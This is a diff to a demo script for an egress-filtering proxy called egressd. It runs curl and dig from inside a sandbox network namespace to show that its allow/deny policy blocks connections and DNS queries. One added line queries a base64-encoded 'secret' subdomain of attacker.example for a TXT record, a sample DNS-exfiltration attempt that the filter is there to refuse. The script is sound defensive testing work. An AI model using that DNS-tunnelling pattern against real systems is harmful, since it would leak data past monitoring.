@@ -27,7 +27,7 @@ cmake --preset release >/dev/null
 cmake --build --preset release -j "$(nproc)" --target egressd
 
 bash tests/e2e/topology.sh up "$P"
-ip netns exec "${P}host" bash deploy/firewall.sh up --iface "${P}h1" --iface "${P}h2" --port 15001 --dns 198.18.0.53
+ip netns exec "${P}host" bash deploy/firewall.sh up --iface "${P}h1" --iface "${P}h2" --port 15001 --dns 198.18.0.53 --dns-port 15053
 
 openssl req -x509 -newkey rsa:2048 -nodes -days 1 -subj /CN=egressd-demo \
   -addext "subjectAltName=DNS:api.github.com,DNS:pypi.org,DNS:evil.example" \
@@ -61,10 +61,16 @@ in_sandbox() { echo "+ $*"; ip netns exec "${P}sbx1" "$@" || true; echo; }
 echo
 echo "=== from inside the sandbox (policy: allow *.github.com, pypi.org; deny gist.github.com)"
 in_sandbox curl -sk --max-time 5 https://api.github.com/
-in_sandbox curl -sk --max-time 5 https://evil.example/ -o /dev/null -w "curl exit %{exitcode}: %{errormsg}\n"
-in_sandbox curl -s --max-time 5 -i http://gist.github.com/
+# The DNS filter refuses the names below, so curl is told their address (--resolve): egressd
+# still refuses the connections themselves.
+in_sandbox curl -sk --max-time 5 --resolve evil.example:443:198.18.0.10 https://evil.example/ -o /dev/null -w "curl exit %{exitcode}: %{errormsg}\n"
+in_sandbox curl -s --max-time 5 -i --resolve gist.github.com:80:198.18.0.10 http://gist.github.com/
+echo "=== DNS from inside the sandbox, answered by egressd from the same policy (any resolver address)"
+in_sandbox dig +short +tries=1 +time=3 api.github.com
+in_sandbox dig +tries=1 +time=3 +noall +comments evil.example
+in_sandbox dig +tries=1 +time=3 +noall +comments @198.18.0.99 c2VjcmV0.attacker.example TXT
 sleep 0.5
-echo "=== egressd's access log (one JSON line per connection)"
+echo "=== egressd's access log (one JSON line per connection or DNS query)"
 cat "$work/access.log"
 echo
 echo "=== metrics: ip netns exec ${P}host curl -s http://127.0.0.1:9464/metrics"
